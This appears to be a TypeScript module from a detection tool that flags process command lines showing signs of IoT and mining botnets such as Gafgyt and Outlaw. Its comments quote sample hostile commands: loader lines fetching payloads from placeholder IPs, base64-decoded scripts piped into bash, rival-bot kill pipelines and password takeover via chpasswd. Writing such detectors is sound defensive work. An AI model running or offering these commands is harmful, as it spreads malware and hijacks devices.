/** Reads a started process for the marks of bots that `bots.ts` knows. */
import type { ProcessStarted } from "../../events/fact.ts";
import { isPublicAddress, parseUrl } from "./addresses.ts";
import {
  botLair,
  botName,
  botWords,
  dropperName,
  embeddedPayload,
  nonsenseApplet,
  payloadArchitecture,
  throwawayFile,
} from "./bots.ts";
import { type Command, type CommandLine, commandLine, resolvePath } from "./command.ts";
import { type Fetch, fetchOf } from "./fetchers.ts";
import { isShell } from "./interpreters.ts";
import { killedNames } from "./kills.ts";
import { basename, inTemporaryDirectory } from "./paths.ts";
import { type Program, programsIn } from "./programs.ts";

export interface Mark {
  /** Stable name of the mark. */
  readonly mark: string;
  readonly reason: string;
}

/** The first mark that no honest command leaves; undefined for none. */
export function strongMark(started: ProcessStarted): Mark | undefined {
  const { commands } = commandLine(started.process);
  for (const program of programsIn(started)) {
    const found = byProgram(program);
    if (found) return found;
  }
  for (const command of commands) {
    const found = applet(command) ?? headerRead(command) ?? byPayload(command) ?? byWords(command) ?? rival(command);
    if (found) return found;
  }
  return (
    takeover(commands) ??
    loaderLine(commands) ??
    everyFetcher(commands) ??
    rivalHunt(commands) ??
    packedScript(commands) ??
    everyProcessor(commandLine(started.process))
  );
}

function byProgram({ path, written, script }: Program): Mark | undefined {
  const placed = written.includes("/") || script;
  const name = botName(path);
  if (name && (placed || name !== "reaper")) return { mark: name, reason: `${name} is the name of a bot` };
  if (botLair(path)) return { mark: path.slice(0, 128), reason: `${path.slice(0, 128)} is a known bot's place` };
  if (placed && namedForProcessor(path, script)) {
    return { mark: basename(path), reason: `a payload named for a processor is run: ${path.slice(0, 128)}` };
  }
  return undefined;
}

/** In a temporary or hidden place any processor in the name tells; elsewhere only those that no host like this one has. */
function namedForProcessor(path: string, script: boolean): boolean {
  if (inTemporaryDirectory(path) || /(?:^|\/)\.[^/]+\//.test(path))
    return payloadArchitecture(path) !== undefined || embeddedPayload(path, true);
  return !script && embeddedPayload(path, false);
}

/** `/bin/busybox ECCHI`; the wrapper was taken off, so the nonsense is the command's name. */
function applet(command: Command): Mark | undefined {
  const word =
    command.wrappers.at(-1) === "busybox" ? command.program : command.name === "busybox" ? command.args[0] : undefined;
  if (word === undefined || !nonsenseApplet(word)) return undefined;
  return { mark: "nonsense applet", reason: `asks busybox for the nonsense applet ${word}` };
}

/** An ELF32 header is 52 bytes, an ELF64 one 64: loaders read one to learn the processor (elf(5)). */
function headerRead({ name, args, redirections }: Command): Mark | undefined {
  const own = [
    ...(name === "cat" ? args : []),
    ...redirections.flatMap(({ operator, target }) => (operator === "<" ? [target] : [])),
  ];
  const file = own.find((one) => /^\/proc\/self\/exe$|^(?:\/usr)?\/bin\/(?:echo|ls|busybox|cat|sh)$/.test(one));
  if (file) return { mark: "ELF header read", reason: `prints the program ${file} to learn the processor` };
  if (name === "dd") {
    const given = new Map(
      args.map((arg) => [arg.slice(0, arg.indexOf("=")), arg.slice(arg.indexOf("=") + 1)] as const),
    );
    const file = given.get("if") ?? "";
    const size = Number(given.get("bs") ?? 0) * Number(given.get("count") ?? 0);
    const probe = throwawayFile(file) || /^\/bin\/(?:echo|ls|busybox|sh|cat)$|^\/proc\/self\/exe$/.test(file);
    if (probe && size >= 16 && size <= 128)
      return { mark: "ELF header read", reason: `reads the ELF header of ${file}` };
  }
  if (
    name === "cp" &&
    args.length === 2 &&
    /^(?:\/bin|\/usr\/bin)\/(?:echo|ls|busybox|sh)$/.test(args[0] ?? "") &&
    throwawayFile(args[1] ?? "")
  ) {
    return { mark: "copied system tool", reason: `copies ${args[0]} to ${args[1]} to get a file it may overwrite` };
  }
  return undefined;
}

/** Fetched by name: a bot, or a payload for one processor from a bare address. */
function byPayload(command: Command): Mark | undefined {
  const fetch = fetchOf(command);
  if (!fetch) return undefined;
  for (const { host, file } of sources(fetch)) {
    const bot = botName(file);
    if (bot && bot.length > 4) return { mark: bot, reason: `fetches ${bot}, the name of a bot` };
    if (!isPublicAddress(host)) continue;
    const processor = payloadArchitecture(file);
    if (processor)
      return { mark: "payload per processor", reason: `fetches ${file}, built for ${processor}, from ${host}` };
    if (dropperName(file)) return { mark: "dropper", reason: `fetches the dropper ${file} from ${host}` };
  }
  return undefined;
}

/** Host and file name of what is fetched; tools without URLs name the file apart. */
function sources(fetch: Fetch): readonly { readonly host: string; readonly file: string }[] {
  return fetch.urls.slice(0, 16).flatMap((text) => {
    const url = parseUrl(text);
    const host = url?.host ?? text;
    const name = basename(url?.path ?? "");
    return name ? [{ host, file: name }] : fetch.files.slice(0, 4).map((file) => ({ host, file: basename(file) }));
  });
}

/** The first bytes of an ELF file (elf(5)) as echo and printf escape them. */
const elf = /^\\{1,2}(?:x7f|177|0177)(?:ELF|\\{1,2}x45\\{1,2}x4c\\{1,2}x46|\\{1,2}0?105\\{1,2}0?114\\{1,2}0?106)/i;

function byWords(command: Command): Mark | undefined {
  const words = [...command.args, ...command.redirections.map(({ target }) => target)];
  for (const word of words) {
    const found = botWords.exec(word.slice(0, 4096));
    if (found) return { mark: found[0], reason: `${found[0]} is a known bot's mark` };
  }
  if (command.name === "lockr" && words.some((word) => /^-[ia]+$/.test(word))) {
    return { mark: "lockr", reason: "lockr is the Outlaw bot's own chattr" };
  }
  if (/^(?:echo|printf)$/.test(command.name) && words.some((word) => elf.test(word.slice(0, 64)))) {
    return { mark: "ELF written by echo", reason: "writes a program's bytes with echo" };
  }
  if (command.name === "echo" && /^\\+x6F\\+x6B$/i.test(command.args.at(-1) ?? "")) {
    return { mark: "echo ok in hex", reason: "asks the shell to print ok from hex, as login bots do" };
  }
  // Login bots ask so whether a place can be written; nobody else spells letters to busybox in hex.
  if (
    command.name === "echo" &&
    command.wrappers.includes("busybox") &&
    words.some((word) => /(?:\\{1,2}x[467][0-9a-f]){4}/i.test(word.slice(0, 256)))
  ) {
    return { mark: "echo in hex", reason: "spells words to busybox in hex, as login bots do" };
  }
  if (command.name === "echo" && loaderChunk(command)) {
    return { mark: "program written by echo", reason: "appends a program's bytes to a throwaway file" };
  }
  const lair = words.find((word) => word.includes("/") && botLair(resolvePath(command, word)));
  if (lair && !/^(?:auditctl|inotifywait|clamscan|yara)$/.test(command.name)) {
    return { mark: lair.slice(0, 128), reason: `${lair.slice(0, 128)} is a known bot's place` };
  }
  return undefined;
}

/** A later piece of the echo loader: bytes, and a file that nobody keeps. */
function loaderChunk({ args, redirections }: Command): boolean {
  const bytes = args.some((arg) => arg.length >= 48 && /^(?:\\{1,2}x[0-9a-f]{2}){12}/i.test(arg.slice(0, 80)));
  return bytes && redirections.some(({ operator, target }) => operator === ">>" && throwawayFile(target));
}

/** Another worm's process or file is removed: either a rival fights it, or the device was infected. */
function rival(command: Command): Mark | undefined {
  const killed = killedNames(command).find((name) => botName(name));
  if (killed) return { mark: `against ${killed}`, reason: `kills the bot ${killed}` };
  if (command.name !== "rm") return undefined;
  const file = command.args.find((arg) => arg.includes("/") && botName(arg));
  return file === undefined
    ? undefined
    : { mark: `against ${basename(file)}`, reason: `removes the bot ${basename(file)}` };
}

/** `echo "root:..." | chpasswd | bash`, or `enable; system; shell; sh`: prompts that only bots type. */
function takeover(commands: readonly Command[]): Mark | undefined {
  const changed = commands.find(({ name }) => name === "chpasswd");
  if (
    changed &&
    commands.some(
      ({ name, pipeline, stage }) => name === "bash" && pipeline === changed.pipeline && stage > changed.stage,
    )
  ) {
    return { mark: "chpasswd into bash", reason: "pipes the password change into bash, as the Outlaw bot does" };
  }
  if (commands.length > 1 && commands.some((command) => newPassword(command, commands)))
    return { mark: "password by echo", reason: "changes the own password by echo, as login bots do" };
  const prompts = new Set(commands.filter(({ args }) => args.length === 0).map(({ name }) => name));
  const typed = ["system", "shell", "linuxshell", "enable", "development"].filter((name) => prompts.has(name));
  return typed.length >= 2
    ? { mark: "router prompts", reason: `types router commands: ${typed.join(", ")}` }
    : undefined;
}

/** `echo -e "old\nnew\nnew" | passwd`: a person is asked, and image recipes name the account. */
function newPassword({ name, args, pipeline, stage }: Command, commands: readonly Command[]): boolean {
  if (name !== "passwd" || args.length > 0 || stage === 0) return false;
  const echo = commands.find(
    (other) => other.pipeline === pipeline && other.stage === stage - 1 && other.name === "echo",
  );
  return (
    echo !== undefined &&
    echo.args
      .join(" ")
      .slice(0, 256)
      .split(/\\n|\n/).length > 2
  );
}

/** The Gafgyt loader's line: `cd /tmp || cd /var/run || cd /mnt || ...; wget ...`. */
function loaderLine(commands: readonly Command[]): Mark | undefined {
  const places = new Set(commands.flatMap(({ name, args }) => (name === "cd" && args.length === 1 ? args : [])));
  const usual = ["/tmp", "/var/run", "/mnt", "/root", "/", "/var/tmp", "/dev/shm", "/run", "/var", "/dev"];
  const tried = usual.filter((place) => places.has(place) || places.has(`${place}/`));
  const fetches = commands.filter((command) => fetchOf(command));
  if (tried.length < 3 || fetches.length === 0) return undefined;
  return { mark: "loader line", reason: `tries ${tried.join(", ")} in turn and fetches there` };
}

/** One file tried with one fetcher after another from a bare address: `wget http://192.0.2.1/x; curl -O http://192.0.2.1/x`. */
function everyFetcher(commands: readonly Command[]): Mark | undefined {
  if (commands.length < 3) return undefined;
  const tried = new Map<string, string>();
  for (const command of commands) {
    const fetch = fetchOf(command);
    if (!fetch?.hosts.some(isPublicAddress)) continue;
    for (const { host, file } of sources(fetch)) {
      const before = tried.get(`${host}/${file}`);
      if (before !== undefined && before !== command.name)
        return { mark: "every fetcher", reason: `tries ${before} and ${command.name} for ${file} from ${host}` };
      if (tried.size < 64) tried.set(`${host}/${file}`, command.name);
    }
  }
  return undefined;
}

/** `ps aux | grep -E 'x|kinsing' | awk '{print $2}' | xargs kill -9` */
function rivalHunt(commands: readonly Command[]): Mark | undefined {
  if (commands.length < 4 || !commands.some(({ name, via }) => name === "kill" && via === "exec")) return undefined;
  for (const { name, args } of commands) {
    if (!name.endsWith("grep")) continue;
    const words = args.flatMap((arg) => (arg.startsWith("-") ? [] : arg.slice(0, 1024).split(/\\?\|/, 64)));
    const rival = words.find((word) => botName(word.replace(/[[\]^$]/g, "")) !== undefined);
    if (rival) return { mark: `against ${rival}`, reason: `hunts the bot ${rival}` };
  }
  return undefined;
}

/** `cd /tmp; echo <base64> | base64 -d | bash`: how Outlaw's dropper arrives. */
function packedScript(commands: readonly Command[]): Mark | undefined {
  if (commands.length < 4) return undefined;
  const decode = commands.find(
    ({ name, args }) => name === "base64" && args.some((arg) => /^(?:-d|-D|--decode)$/.test(arg)),
  );
  if (!decode || !inTemporaryDirectory(decode.cwd)) return undefined;
  const beside = commands.filter(({ pipeline }) => pipeline === decode.pipeline);
  const before = beside.some(({ name, stage }) => name === "echo" && stage < decode.stage);
  const after = beside.some(({ name, stage }) => isShell(name) && stage > decode.stage);
  return before && after
    ? { mark: "packed script", reason: `unpacks a script and runs it in ${decode.cwd}` }
    : undefined;
}

/** `for a in mips arm x86; do wget http://203.0.113.9/$a ...`: one payload for every processor. */
function everyProcessor({ commands, script }: CommandLine): Mark | undefined {
  if (script === undefined || !commands.some((command) => fetchOf(command)?.hosts.some(isPublicAddress)))
    return undefined;
  const words = script.slice(0, 8192).split(/[\s;'"|&()]+/, 512);
  const processors = new Set(words.flatMap((word) => payloadArchitecture(word) ?? []));
  if (processors.size < 3) return undefined;
  return { mark: "payload per processor", reason: `fetches payloads for ${[...processors].slice(0, 8).join(", ")}` };
}
